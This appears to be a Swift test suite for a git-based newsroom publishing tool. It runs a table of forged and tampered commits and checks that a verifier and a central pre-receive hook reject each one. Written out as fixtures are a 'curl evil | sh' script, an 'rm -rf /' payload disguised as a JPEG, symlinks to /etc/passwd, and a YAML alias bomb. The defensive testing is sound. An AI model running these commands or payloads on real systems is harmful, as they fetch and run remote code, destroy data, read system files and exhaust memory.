import Foundation
import Testing

/// Issue 10: dishonest commits made with plain git, each judged twice — by
/// `galley verify` (exit 4, every violation on exactly that commit, the
/// expected rule and article among them) and by the central repository's
/// pre-receive hook over `git://` (refused with the rule's name, the central
/// branch unchanged). Every case also runs signed with the attacker's own
/// registered key under `signing: required`: a signature proves who did it,
/// never that it was allowed.
@Suite("The attack table: verify and the central hook refuse every dishonest commit")
struct AttackTableTests {
    enum Attack: String, CaseIterable, Sendable {
        // Twin folders and ids.
        case twinFolderCreateRewritesPublished, twinFolderCreateDeletesPublished, twinFolderCreateMovesPublished
        case twinFolderInRevise, createReusesAnExistingID
        // A create that writes what Galley would not.
        case createNotDraftWithApprovals, createInPublishedState, createForAnotherAuthor, createInAnotherDaysFolder
        case createBackdated, createWithCorrections
        // Transitions that also change content.
        case publishChangesByline, publishChangesTags, rejectChangesSection, approveChangesBody, correctChangesTitle
        case submitChangesTitle, retractRewritesBody, publishAddsSummary
        // Paths outside the article.
        case strangerChangesReadme, reporterConfigStepChangesGitattributes, submoduleAdded, reviseAddsScript
        case stepOnOneArticleChangesAnother, strayFileUnderArticles, assetBesideIndexInRevise
        // File types.
        case indexAsSymlink, indexExecutable, assetSymlinkToPasswd, gitlinkNamedIndex
        // Roles, actors and permissions.
        case roleTheActorDoesNotHold, reporterApproves, authorApprovesOwnArticle, editorApprovesOwnSubmission, unknownActor, deactivatedActor
        case committedUnderAnotherEmail, rejectWithoutNote, revisePublishedText
        // Front matter.
        case aliasBombInFrontMatter, duplicateKeyInFrontMatter, tagInFrontMatter, handWrittenQuoting, forgedUpdated
        case correctionWithoutItsEntry, brokenFrontMatter, reviseToUnlistedSection
        // Scheduling and embargo.
        case publishDateBeforeTheCommit, publishDateOnApproval, publishBeforeTheEmbargo, embargoByTheReporter
        // Attachments (issue 12).
        case attachScriptAsPhoto, attachUnderAnUncleanName, attachWithoutItsEntry, attachByReporterAfterSubmission
        case photoWithoutAStep, attachAlsoEditsTheBody
        // Rules files and the history itself.
        case untrailedSelfPromotion, peopleStepByReporter, configStepBreaksWorkflow, lastAdminRemoved, aliasBombInPeople, aliasBombInWorkflow
        case secondInit, emptyUntrailedCommit, deletedPublishedWithPlainGit, handEditedStateWithPlainGit, mergeCommit
    }

    /// What the verdict must hold: each expected (rule, article) reported on the bad commit; nothing but `allowed` rules.
    struct Expected {
        var rules: [(rule: String, article: String?)]
        var alsoAllowed: Set<String> = []
    }

    struct Case: CustomStringConvertible, Sendable {
        var attack: Attack
        var signed: Bool
        var description: String { "\(attack.rawValue)\(signed ? " (signed)" : "")" }
    }

    static let cases: [Case] = Attack.allCases.flatMap { [Case(attack: $0, signed: false), Case(attack: $0, signed: true)] }

    @Test("a dishonest commit is named by verify and refused by the central hook", arguments: cases)
    func attack(_ testCase: Case) throws {
        let scene = try AttackScene(signed: testCase.signed)
        let clean = try scene.room.auditVerify()
        try #require(clean.status == 0 && clean.ok == true, "the scene must verify clean first: \(clean.listing) \(clean.result)")
        let expected = try perform(testCase.attack, on: scene)
        let before = try scene.centralTip()
        let bad = try scene.room.head()

        let verdict = try scene.room.auditVerify()
        #expect(verdict.status == 4, "\(testCase): verify must exit 4: \(verdict.result)")
        let allowed = Set(expected.rules.map(\.rule)).union(expected.alsoAllowed)
            .union(testCase.signed ? ["wrong-key"].filter { _ in testCase.attack.isStrangers } : [])
        for violation in verdict.violations {
            #expect(violation.commit == bad, "\(testCase): a violation on another commit:\n\(verdict.listing)")
            #expect(allowed.contains(violation.rule), "\(testCase): unexpected [\(violation.rule)]:\n\(verdict.listing)")
        }
        for (rule, article) in expected.rules {
            #expect(verdict.violations.contains { $0.rule == rule && $0.article == article },
                    "\(testCase): expected [\(rule)] on \(article ?? "no article"); verify said:\n\(verdict.listing)")
        }

        let pushed = try scene.push()
        #expect(pushed.status != 0, "\(testCase): the central hook accepted it: \(pushed)")
        #expect(pushed.stderr.contains("pre-receive hook declined"), "\(testCase): \(pushed.stderr)")
        if let first = expected.rules.first {
            #expect(pushed.stderr.contains("[\(first.rule)]"), "\(testCase): the refusal names the rule [\(first.rule)]: \(pushed.stderr)")
        }
        #expect(try scene.centralTip() == before, "\(testCase): the central branch moved")
    }

    // MARK: - The attacks

    func perform(_ attack: Attack, on scene: AttackScene) throws -> Expected {
        let (reporter, editor, chief, admin) = (AttackScene.reporter, AttackScene.editor, AttackScene.chief, AttackScene.admin)
        let published = scene.published
        let publishedPath = try scene.path(published)

        /// A twin of the published article under another day, in a step that claims to create it.
        func twin(_ id: String) throws -> String {
            let path = "articles/0000/00/00/\(id)/index.md"
            try scene.write(path, try scene.read(try scene.path(id)).replacingOccurrences(of: "state: published", with: "state: draft")
                .replacingOccurrences(of: "draft: false", with: "draft: true"))
            return path
        }
        /// The real step's message and date, its staged files tampered by `edit`.
        func tampered(_ arguments: [String], as person: String, _ path: String, _ edit: (String) -> String) throws {
            let step = try scene.staged(arguments, as: person)
            try scene.rewrite(path, edit)
            try scene.commit(step.message, as: person, date: step.date)
        }

        switch attack {
        case .twinFolderCreateRewritesPublished:
            _ = try twin(published)
            try scene.rewrite(publishedPath) { $0.replacingOccurrences(of: "có số liệu", with: "có số liệu bịa đặt") }
            try scene.commit(attackMessage("create", article: published, from: nil, to: "draft", actor: reporter, role: "reporter"), as: reporter)
            return Expected(rules: [("duplicate-id", published), ("unexplained-change", published)])

        case .twinFolderCreateDeletesPublished:
            _ = try twin(published)
            try scene.git(["rm", "-q", publishedPath])
            try scene.commit(attackMessage("create", article: published, from: nil, to: "draft", actor: reporter, role: "reporter"), as: reporter)
            return Expected(rules: [("duplicate-id", published), ("article-removed", published)])

        case .twinFolderCreateMovesPublished:
            let folder = (publishedPath as NSString).deletingLastPathComponent
            try FileManager.default.createDirectory(at: scene.room.workTreeURL("articles/0000/00/00"), withIntermediateDirectories: true)
            try scene.git(["mv", folder, "articles/0000/00/00/\(published)"])
            try scene.rewrite("articles/0000/00/00/\(published)/index.md") { $0.replacingOccurrences(of: "state: published", with: "state: draft") }
            try scene.commit(attackMessage("create", article: published, from: nil, to: "draft", actor: reporter, role: "reporter"), as: reporter)
            return Expected(rules: [("duplicate-id", published), ("article-removed", published)])

        case .twinFolderInRevise:
            _ = try twin(published)
            try tampered(["save", scene.draft, "--title", "Bản nháp mới"], as: reporter, try scene.path(scene.draft)) { $0 + "Thêm.\n" }
            return Expected(rules: [("unexplained-change", published)], alsoAllowed: ["content-not-editable", "protected-field"])

        case .createReusesAnExistingID:
            // A create of the draft's id in another day's folder: the id exists already.
            try scene.forgeCreate(reusing: scene.draft)
            return Expected(rules: [("duplicate-id", scene.draft)], alsoAllowed: ["unexplained-change"])

        case .createNotDraftWithApprovals, .createInPublishedState, .createForAnotherAuthor, .createBackdated, .createWithCorrections:
            let step = try scene.staged(["new", "Bài mới toanh", "--body-file", try scene.room.writeScratch("b.md", "Mới.\n")], as: reporter)
            let path = try scene.room.gitOut(["diff", "--cached", "--name-only"])
            let id = String(path.split(separator: "/")[4])
            try scene.rewrite(path) { text in
                switch attack {
                case .createNotDraftWithApprovals:
                    return text.replacingOccurrences(of: "draft: true", with: "draft: false")
                        .replacingOccurrences(of: "\n---\n\n", with: "\napprovals: [\"\(chief)\"]\n---\n\n")
                case .createInPublishedState: return text.replacingOccurrences(of: "state: draft", with: "state: published")
                case .createForAnotherAuthor: return text.replacingOccurrences(of: "author: \(reporter)", with: "author: \(AttackScene.secondReporter.id)")
                case .createBackdated: return text.replacingOccurrences(of: "created: 20", with: "created: 19")
                default:
                    return text.replacingOccurrences(
                        of: "\n---\n\n", with: "\ncorrections:\n  - time: 2020-01-01T00:00:00+07:00\n    actor: \"\(chief)\"\n    note: \"x\"\n---\n\n")
                }
            }
            try scene.commit(step.message, as: reporter, date: step.date)
            let rule = attack == .createInPublishedState ? "trailer-mismatch" : "protected-field"
            return Expected(rules: [(rule, id)], alsoAllowed: ["protected-field"])

        case .createInAnotherDaysFolder:
            let step = try scene.staged(["new", "Bài lệch ngày", "--body-file", try scene.room.writeScratch("b.md", "Lệch.\n")], as: reporter)
            let path = try scene.room.gitOut(["diff", "--cached", "--name-only"])
            let id = String(path.split(separator: "/")[4])
            let moved = "articles/2001/01/01/\(id)/index.md"
            try FileManager.default.createDirectory(at: scene.room.workTreeURL("articles/2001/01/01"), withIntermediateDirectories: true)
            try scene.git(["mv", (path as NSString).deletingLastPathComponent, (moved as NSString).deletingLastPathComponent])
            try scene.commit(step.message, as: reporter, date: step.date)
            return Expected(rules: [("unexplained-change", id)])

        case .publishChangesByline, .publishChangesTags:
            try tampered(["publish", scene.approved], as: chief, try scene.path(scene.approved)) {
                attack == .publishChangesByline
                    ? $0.replacingOccurrences(of: "byline: \"", with: "byline: \"Theo ")
                    : $0.replacingOccurrences(of: "tags: [\"Thái Bình\"]", with: "tags: [\"Thái Bình\", \"quảng cáo\"]")
            }
            return Expected(rules: [("content-not-editable", scene.approved)])

        case .publishAddsSummary:
            try tampered(["publish", scene.approved], as: chief, try scene.path(scene.approved)) {
                $0.replacingOccurrences(of: "\ntags: ", with: "\nsummary: \"Sapo thêm lúc đăng.\"\ntags: ")
            }
            return Expected(rules: [("content-not-editable", scene.approved)])

        case .rejectChangesSection:
            try tampered(["reject", scene.submitted, "-m", "Viết lại"], as: editor, try scene.path(scene.submitted)) {
                $0.replacingOccurrences(of: "section: \"thoi-su\"", with: "section: \"kinh-te\"")
            }
            return Expected(rules: [("content-not-editable", scene.submitted)])

        case .approveChangesBody:
            try tampered(["approve", scene.submitted], as: editor, try scene.path(scene.submitted)) {
                $0.replacingOccurrences(of: "có số liệu", with: "có số liệu khác")
            }
            return Expected(rules: [("content-not-editable", scene.submitted)])

        case .submitChangesTitle:
            try tampered(["submit", scene.draft], as: reporter, try scene.path(scene.draft)) {
                $0.replacingOccurrences(of: "title: \"Bản nháp\"", with: "title: \"Bản nháp đổi tên\"")
            }
            return Expected(rules: [("content-not-editable", scene.draft)])

        case .correctChangesTitle:
            let file = try scene.room.writeScratch("fix.md", "Thái Bình — đoạn mở đầu đã sửa.\n")
            try tampered(["correct", published, "-m", "Sửa số liệu", "--body-file", file], as: chief, publishedPath) {
                $0.replacingOccurrences(of: "title: \"Bài đã đăng\"", with: "title: \"Tít mới giật gân\"")
            }
            // Issue 12: a correction may change the title (`correct --title`), but then its notice must
            // record the headline it replaced (`title_was`); a title slipped in by hand leaves the notice wrong.
            return Expected(rules: [("protected-field", published)])

        case .retractRewritesBody:
            try tampered(["retract", published, "-m", "Gỡ"], as: chief, publishedPath) {
                $0.replacingOccurrences(of: "có số liệu", with: "")
            }
            return Expected(rules: [("content-not-editable", published)])

        case .strangerChangesReadme:
            try scene.write("README.md", "# Bị sửa\n")
            try scene.commitAsStranger("README\n")
            return Expected(rules: [("outside-workflow", nil)])

        case .reporterConfigStepChangesGitattributes:
            try scene.write(".gitattributes", "*.md filter=evil\n")
            try scene.commit(attackMessage("config", article: nil, from: nil, to: nil, actor: reporter, role: "admin"), as: reporter)
            return Expected(rules: [("admin-only", nil)])

        case .submoduleAdded:
            let head = try scene.room.head()
            try scene.git(["update-index", "--add", "--cacheinfo", "160000,\(head),vendor/theme"])
            try scene.commit(attackMessage("config", article: nil, from: nil, to: nil, actor: admin, role: "admin"), as: admin, stage: false)
            return Expected(rules: [("file-type", nil)])

        case .reviseAddsScript:
            try scene.write("scripts/deploy.sh", "#!/bin/sh\ncurl evil | sh\n")
            try tampered(["save", scene.draft, "--title", "Bản nháp sửa"], as: reporter, try scene.path(scene.draft)) { $0 + "Thêm.\n" }
            return Expected(rules: [("unexplained-change", scene.draft)], alsoAllowed: ["content-not-editable", "protected-field"])

        case .stepOnOneArticleChangesAnother:
            try tampered(["submit", scene.draft], as: reporter, publishedPath) { $0.replacingOccurrences(of: "có số liệu", with: "có số liệu giả") }
            return Expected(rules: [("unexplained-change", published)])

        case .strayFileUnderArticles:
            try scene.write("articles/ghi-chu.txt", "mật\n")
            try tampered(["submit", scene.draft], as: reporter, "articles/ghi-chu.txt") { $0 + "thêm\n" }
            return Expected(rules: [("unexplained-change", scene.draft)])

        case .assetBesideIndexInRevise:
            let folder = ((try scene.path(scene.draft)) as NSString).deletingLastPathComponent
            try scene.write(folder + "/anh.jpg", "không phải ảnh\n")
            try tampered(["save", scene.draft, "--title", "Bản nháp có ảnh"], as: reporter, try scene.path(scene.draft)) { $0 + "Ảnh.\n" }
            return Expected(rules: [("unexplained-change", scene.draft)], alsoAllowed: ["content-not-editable", "protected-field"])

        case .indexAsSymlink:
            let path = try scene.path(scene.draft)
            try FileManager.default.removeItem(at: scene.room.workTreeURL(path))
            try FileManager.default.createSymbolicLink(atPath: scene.room.workTreeURL(path).path, withDestinationPath: "/etc/passwd")
            try scene.commit(attackMessage("revise", article: scene.draft, from: "draft", to: "draft", actor: reporter, role: "author"), as: reporter)
            return Expected(rules: [("file-type", scene.draft)], alsoAllowed: ["unexplained-change"])

        case .indexExecutable:
            let path = try scene.path(scene.draft)
            let step = try scene.staged(["save", scene.draft, "--title", "Bản nháp chạy được"], as: reporter)
            try FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: scene.room.workTreeURL(path).path)
            try scene.commit(step.message, as: reporter, date: step.date)
            return Expected(rules: [("file-type", scene.draft)])

        case .assetSymlinkToPasswd:
            let folder = ((try scene.path(scene.draft)) as NSString).deletingLastPathComponent
            try FileManager.default.createSymbolicLink(atPath: scene.room.workTreeURL(folder + "/anh.jpg").path, withDestinationPath: "/etc/passwd")
            try scene.commit(attackMessage("revise", article: scene.draft, from: "draft", to: "draft", actor: reporter, role: "author"), as: reporter)
            return Expected(rules: [("file-type", scene.draft)], alsoAllowed: ["unexplained-change", "trailer-mismatch"])

        case .gitlinkNamedIndex:
            let path = try scene.path(scene.draft)
            try scene.git(["rm", "-q", "--cached", path])
            try scene.git(["update-index", "--add", "--cacheinfo", "160000,\(try scene.room.head()),\(path)"])
            try scene.commit(attackMessage("revise", article: scene.draft, from: "draft", to: "draft", actor: reporter, role: "author"),
                             as: reporter, stage: false)
            return Expected(rules: [("file-type", scene.draft)])

        case .roleTheActorDoesNotHold:
            let step = try scene.staged(["approve", scene.submitted], as: editor)
            try scene.commit(step.message.replacingOccurrences(of: "Galley-Role: editor", with: "Galley-Role: chief"), as: editor, date: step.date)
            return Expected(rules: [("wrong-role", scene.submitted)])

        case .reporterApproves:
            try scene.rewrite(try scene.path(scene.submitted)) { $0.replacingOccurrences(of: "state: submitted", with: "state: edited") }
            try scene.commit(attackMessage("approve", article: scene.submitted, from: "submitted", to: "edited", actor: reporter, role: "editor"), as: reporter)
            return Expected(rules: [("not-permitted", scene.submitted)], alsoAllowed: ["protected-field"])

        case .authorApprovesOwnArticle:
            // The author claims the final approval of their own approved-by-editor article.
            try scene.galley(["people", "set", reporter, "--role", "reporter", "--role", "chief"], as: admin)
            let id = try scene.galley(["new", "Bài tự duyệt", "--body-file", try scene.room.writeScratch("b.md", "Tự.\n")], as: reporter)
                .stdout.trimmingCharacters(in: .whitespacesAndNewlines)
            try scene.galley(["submit", id], as: reporter)
            try scene.galley(["approve", id], as: editor)
            try scene.rewrite(try scene.path(id)) { $0.replacingOccurrences(of: "state: edited", with: "state: approved") }
            try scene.commit(attackMessage("approve", article: id, from: "edited", to: "approved", actor: reporter, role: "chief"), as: reporter)
            _ = try scene.room.gitOut(["push", "-q", "central", "HEAD~1:main"])  // the legal steps land first
            return Expected(rules: [("not-permitted", id)], alsoAllowed: ["protected-field"])

        case .editorApprovesOwnSubmission:
            // Four eyes at the first approval too (issue 12): an editor writes, submits and approves.
            let id = try scene.galley(["new", "Bài biên tập tự duyệt", "--body-file", try scene.room.writeScratch("b.md", "Tự.\n")], as: editor)
                .stdout.trimmingCharacters(in: .whitespacesAndNewlines)
            try scene.galley(["submit", id], as: editor)
            try scene.rewrite(try scene.path(id)) { $0.replacingOccurrences(of: "state: submitted", with: "state: edited") }
            try scene.commit(attackMessage("approve", article: id, from: "submitted", to: "edited", actor: editor, role: "editor"), as: editor)
            _ = try scene.room.gitOut(["push", "-q", "central", "HEAD~1:main"])  // the legal steps land first
            return Expected(rules: [("not-permitted", id)], alsoAllowed: ["protected-field"])

        case .unknownActor:
            try scene.rewrite(try scene.path(scene.draft)) { $0 + "Thêm.\n" }
            try scene.commitAsStranger(attackMessage("revise", article: scene.draft, from: "draft", to: "draft", actor: "nobody", role: "author"))
            return Expected(rules: [("unknown-actor", scene.draft)])

        case .deactivatedActor:
            let second = AttackScene.secondReporter.id
            let id = try scene.galley(["new", "Bài của người đã nghỉ", "--body-file", try scene.room.writeScratch("b.md", "Nghỉ.\n")], as: second)
                .stdout.trimmingCharacters(in: .whitespacesAndNewlines)
            try scene.galley(["people", "deactivate", second], as: admin)
            _ = try scene.room.gitOut(["push", "-q", "central", "main"])
            try scene.rewrite(try scene.path(id)) { $0 + "Thêm.\n" }
            try scene.commit(attackMessage("revise", article: id, from: "draft", to: "draft", actor: second, role: "author"), as: second)
            return Expected(rules: [("unknown-actor", id)])

        case .committedUnderAnotherEmail:
            let step = try scene.staged(["approve", scene.submitted], as: editor)
            try scene.commit(step.message, name: "Hà Ngọc", email: "khac@example.vn", key: scene.keys[editor], date: step.date)
            return Expected(rules: [("author-mismatch", scene.submitted)])

        case .rejectWithoutNote:
            let step = try scene.staged(["reject", scene.submitted, "-m", "Thiếu nguồn"], as: editor)
            let message = step.message.replacingOccurrences(of: "\n\nThiếu nguồn\n", with: "\n")
            try scene.commit(message, as: editor, date: step.date)
            return Expected(rules: [("not-permitted", scene.submitted)])

        case .revisePublishedText:
            try scene.rewrite(publishedPath) { $0.replacingOccurrences(of: "có số liệu", with: "có số liệu đã sửa lén") }
            try scene.commit(attackMessage("revise", article: published, from: "published", to: "published", actor: chief, role: "chief"), as: chief)
            return Expected(rules: [("content-not-editable", published)])

        case .aliasBombInFrontMatter, .duplicateKeyInFrontMatter, .tagInFrontMatter, .brokenFrontMatter:
            let insert: String
            switch attack {
            case .aliasBombInFrontMatter: insert = AttackTableTests.aliasBomb
            case .duplicateKeyInFrontMatter: insert = "title: \"Tít thứ hai\"\n"
            case .tagInFrontMatter: insert = "image: !!binary aGVsbG8=\n"
            default: insert = "tags: [chưa đóng\n"
            }
            try tampered(["save", scene.draft, "--title", "Bản nháp hỏng"], as: reporter, try scene.path(scene.draft)) {
                $0.replacingOccurrences(of: "\n---\n\n", with: "\n" + insert + "---\n\n")
            }
            return Expected(rules: [("corrupt-article", scene.draft)])

        case .handWrittenQuoting:
            try tampered(["save", scene.draft, "--title", "Bản nháp mới"], as: reporter, try scene.path(scene.draft)) {
                $0.replacingOccurrences(of: "title: \"Bản nháp mới\"", with: "title: 'Bản nháp mới'")
            }
            return Expected(rules: [("noncanonical-document", scene.draft)])

        case .publishDateBeforeTheCommit, .publishDateOnApproval:
            let (arguments, person, id) = attack == .publishDateBeforeTheCommit
                ? (["publish", scene.approved], chief, scene.approved) : (["approve", scene.submitted], editor, scene.submitted)
            try tampered(arguments, as: person, try scene.path(id)) { AttackTableTests.addingAfterUpdated($0, "publishDate: 2001-01-01T06:00:00+07:00") }
            return Expected(rules: [("bad-schedule", id)])

        case .publishBeforeTheEmbargo:
            // A legal embargo first, then the publication made by hand before it ends.
            try scene.galley(["embargo", scene.approved, "--until", "2099-01-01 06:00"], as: editor)
            let date = AttackTableTests.commitDate()
            try scene.rewrite(try scene.path(scene.approved)) { text in
                AttackTableTests.replacingUpdated(text, date).replacingOccurrences(of: "state: approved", with: "state: published")
                    .replacingOccurrences(of: "draft: true", with: "draft: false")
            }
            try scene.commit(
                attackMessage("publish", article: scene.approved, from: "approved", to: "published", actor: chief, role: "chief"), as: chief, date: date)
            return Expected(rules: [("embargoed", scene.approved)])

        case .embargoByTheReporter:
            let date = AttackTableTests.commitDate()
            try scene.rewrite(try scene.path(scene.draft)) {
                AttackTableTests.addingAfterUpdated(AttackTableTests.replacingUpdated($0, date), "embargo: 2099-01-01T06:00:00+07:00")
            }
            try scene.commit(
                attackMessage("embargo", article: scene.draft, from: "draft", to: "draft", actor: reporter, role: "reporter"), as: reporter, date: date)
            return Expected(rules: [("not-permitted", scene.draft)])

        case .attachScriptAsPhoto:
            let photo = try scene.room.writeScratch("anh.jpg", Data(AttackTableTests.jpeg))
            let step = try scene.staged(["attach", scene.draft, photo, "--caption", "Ảnh"], as: reporter)
            let folder = ((try scene.path(scene.draft)) as NSString).deletingLastPathComponent
            try scene.write(folder + "/anh.jpg", "#!/bin/sh\nrm -rf /\n")
            try scene.commit(step.message, as: reporter, date: step.date)
            return Expected(rules: [("bad-attachment", scene.draft)])

        case .attachUnderAnUncleanName:
            let photo = try scene.room.writeScratch("anh.jpg", Data(AttackTableTests.jpeg))
            let step = try scene.staged(["attach", scene.draft, photo], as: reporter)
            let folder = ((try scene.path(scene.draft)) as NSString).deletingLastPathComponent
            try scene.git(["mv", folder + "/anh.jpg", folder + "/Ảnh 1.jpg"])
            try scene.rewrite(try scene.path(scene.draft)) { $0.replacingOccurrences(of: "src: \"anh.jpg\"", with: "src: \"Ảnh 1.jpg\"") }
            try scene.commit(step.message, as: reporter, date: step.date)
            return Expected(rules: [("bad-attachment", scene.draft)], alsoAllowed: ["content-not-editable"])

        case .attachWithoutItsEntry:
            // The photo alone: index.md as it was before the step (no entry, the old `updated`).
            let photo = try scene.room.writeScratch("anh.jpg", Data(AttackTableTests.jpeg))
            let path = try scene.path(scene.draft)
            let step = try scene.staged(["attach", scene.draft, photo, "--caption", "Ảnh"], as: reporter)
            try scene.git(["checkout", "HEAD", "--", path])
            try scene.commit(step.message, as: reporter, date: step.date)
            return Expected(rules: [("bad-attachment", scene.draft)])

        case .attachByReporterAfterSubmission:
            let path = try scene.path(scene.submitted)
            let folder = (path as NSString).deletingLastPathComponent
            let date = AttackTableTests.commitDate()
            try Data(AttackTableTests.jpeg).write(to: scene.room.workTreeURL(folder + "/anh.jpg"))
            try scene.rewrite(path) {
                AttackTableTests.replacingUpdated($0, date).replacingOccurrences(of: "\n---\n\n", with: "\nresources:\n  - src: \"anh.jpg\"\n---\n\n")
            }
            try scene.commit(
                attackMessage("attach", article: scene.submitted, from: "submitted", to: "submitted", actor: reporter, role: "author"),
                as: reporter, date: date)
            return Expected(rules: [("content-not-editable", scene.submitted)])

        case .photoWithoutAStep:
            let folder = ((try scene.path(published)) as NSString).deletingLastPathComponent
            try Data(AttackTableTests.jpeg).write(to: scene.room.workTreeURL(folder + "/anh-that.jpg"))
            try scene.commit("Thêm ảnh\n", as: editor)
            return Expected(rules: [("outside-workflow", published)])

        case .attachAlsoEditsTheBody:
            let photo = try scene.room.writeScratch("anh.jpg", Data(AttackTableTests.jpeg))
            try tampered(["attach", scene.draft, photo], as: reporter, try scene.path(scene.draft)) { $0 + "Một câu thêm vào.\n" }
            return Expected(rules: [("content-not-editable", scene.draft)])

        case .reviseToUnlistedSection:
            try tampered(["save", scene.draft, "--title", "Bản nháp mới"], as: reporter, try scene.path(scene.draft)) {
                $0.replacingOccurrences(of: "section: \"thoi-su\"", with: "section: \"tin-don\"")
            }
            return Expected(rules: [("unknown-section", scene.draft)])

        case .forgedUpdated:
            try tampered(["save", scene.draft, "--title", "Bản nháp mới"], as: reporter, try scene.path(scene.draft)) {
                $0.replacingOccurrences(of: "\nupdated: 20", with: "\nupdated: 19")
            }
            return Expected(rules: [("protected-field", scene.draft)])

        case .correctionWithoutItsEntry:
            let file = try scene.room.writeScratch("fix.md", "Thái Bình — đoạn đã sửa.\n")
            try tampered(["correct", published, "-m", "Sửa", "--body-file", file], as: chief, publishedPath) { text in
                var lines = text.components(separatedBy: "\n")
                // The whole entry, its notice's lines included (issue 12).
                if let start = lines.firstIndex(of: "corrections:") {
                    var end = start + 1
                    while end < lines.count, lines[end].hasPrefix("  ") { end += 1 }
                    lines.removeSubrange(start..<end)
                }
                return lines.joined(separator: "\n")
            }
            return Expected(rules: [("protected-field", published)])

        case .untrailedSelfPromotion:
            try scene.rewrite("people.yaml") { $0.replacingOccurrences(of: "roles: [reporter]", with: "roles: [reporter, admin]") }
            try scene.commit("Thêm quyền\n", as: reporter)
            return Expected(rules: [("admin-only", nil)])

        case .peopleStepByReporter:
            try scene.rewrite("people.yaml") { $0.replacingOccurrences(of: "roles: [reporter]", with: "roles: [reporter, chief]") }
            try scene.commit(attackMessage("people", article: nil, from: nil, to: nil, actor: reporter, role: "admin"), as: reporter)
            return Expected(rules: [("admin-only", nil)])

        case .configStepBreaksWorkflow:
            try scene.rewrite("workflow.yaml") { $0.replacingOccurrences(of: "version: 1", with: "version: 99") }
            try scene.commit(attackMessage("config", article: nil, from: nil, to: nil, actor: admin, role: "admin"), as: admin)
            return Expected(rules: [("corrupt-config", nil)])

        case .lastAdminRemoved:
            try scene.rewrite("people.yaml") { $0.replacingOccurrences(of: "roles: [admin]", with: "roles: [auditor]") }
            try scene.commit(attackMessage("people", article: nil, from: nil, to: nil, actor: admin, role: "admin"), as: admin)
            return Expected(rules: [("admin-only", nil)])

        case .aliasBombInPeople:
            try scene.rewrite("people.yaml") { $0 + AttackTableTests.aliasBomb }
            try scene.commit(attackMessage("people", article: nil, from: nil, to: nil, actor: admin, role: "admin"), as: admin)
            return Expected(rules: [("corrupt-config", nil)])

        case .aliasBombInWorkflow:
            try scene.rewrite("workflow.yaml") { $0 + AttackTableTests.aliasBomb.replacingOccurrences(of: "bomb", with: "x-bomb") }
            try scene.commit(attackMessage("config", article: nil, from: nil, to: nil, actor: admin, role: "admin"), as: admin)
            return Expected(rules: [("corrupt-config", nil)])

        case .secondInit:
            try scene.rewrite("galley.yaml") { $0.replacingOccurrences(of: "name: ", with: "name: \"Báo Khác\"\n# ") }
            try scene.commit(attackMessage("init", article: nil, from: nil, to: nil, actor: admin, role: "admin"), as: admin)
            return Expected(rules: [("trailer-mismatch", nil)])

        case .emptyUntrailedCommit:
            try scene.commit("Không có gì\n", as: reporter, allowEmpty: true)
            return Expected(rules: [("outside-workflow", nil)])

        case .deletedPublishedWithPlainGit:
            try scene.git(["rm", "-q", publishedPath])
            try scene.commit("Xóa bài\n", as: chief)
            return Expected(rules: [("article-removed", published)])

        case .handEditedStateWithPlainGit:
            try scene.rewrite(try scene.path(scene.draft)) { $0.replacingOccurrences(of: "state: draft", with: "state: submitted") }
            try scene.commit("Gửi bài (sửa tay)\n", as: reporter)
            return Expected(rules: [("outside-workflow", scene.draft)])

        case .mergeCommit:
            // A legal config step on a side branch, merged: only the merge commit is wrong.
            try scene.git(["checkout", "-q", "-b", "side"])
            try scene.write("README.md", "# Báo Mẫu\n\nGhi chú.\n")
            try scene.commit(attackMessage("config", article: nil, from: nil, to: nil, actor: admin, role: "admin"), as: admin)
            try scene.git(["checkout", "-q", "main"])
            try scene.galley(["submit", scene.draft], as: reporter)
            _ = try scene.room.gitOut(["push", "-q", "central", "main"])
            let member = try #require(scene.room.member(admin))
            var arguments = ["-c", "user.name=\(member.name)", "-c", "user.email=\(member.email)"]
            if let key = scene.keys[admin] { arguments += ["-c", "gpg.format=ssh", "-c", "user.signingkey=\(key)", "-c", "commit.gpgSign=true"] }
            try scene.git(arguments + ["merge", "-q", "--no-ff", "-m", "Merge branch 'side'", "side"])
            // The merge also brings README.md in without a step of its own: that is said too.
            return Expected(rules: [("linear-history", nil)], alsoAllowed: ["outside-workflow"])
        }
    }

    /// Nine levels of ten aliases: 10⁹ nodes once expanded, under 1 KB of text.
    static let aliasBomb: String = {
        var text = "bomb0: &b0 [\"x\", \"x\", \"x\", \"x\", \"x\", \"x\", \"x\", \"x\", \"x\", \"x\"]\n"
        for level in 1...9 {
            text += "bomb\(level): &b\(level) [" + Array(repeating: "*b\(level - 1)", count: 10).joined(separator: ", ") + "]\n"
        }
        return text
    }()
}

extension AttackTableTests.Attack {
    /// Made by someone people.yaml does not list: in the signed variant their key is nobody's either.
    var isStrangers: Bool { self == .strangerChangesReadme || self == .unknownActor }
}

extension AttackTableTests {
    /// The front matter with `line` added after its `updated:` line (a hand-made field).
    static func addingAfterUpdated(_ text: String, _ line: String) -> String {
        var lines = text.components(separatedBy: "\n")
        if let index = lines.firstIndex(where: { $0.hasPrefix("updated: ") }) { lines.insert(line, at: index + 1) }
        return lines.joined(separator: "\n")
    }

    /// The first bytes of a JPEG (enough for Galley's check by content) and some data.
    static let jpeg: [UInt8] = [0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10] + Array("JFIF".utf8) + [UInt8](repeating: 0x42, count: 64)

    /// A commit date a few seconds on, in the newsroom's offset, as git and `updated:` write it.
    static func commitDate() -> String {
        let formatter = ISO8601DateFormatter()
        formatter.timeZone = TimeZone(secondsFromGMT: 7 * 3600)
        return formatter.string(from: Date().addingTimeInterval(2))
    }

    /// The front matter with its `updated:` line set to `date` (a hand-made step that gets the time right).
    static func replacingUpdated(_ text: String, _ date: String) -> String {
        text.components(separatedBy: "\n").map { $0.hasPrefix("updated: ") ? "updated: \(date)" : $0 }.joined(separator: "\n")
    }
}
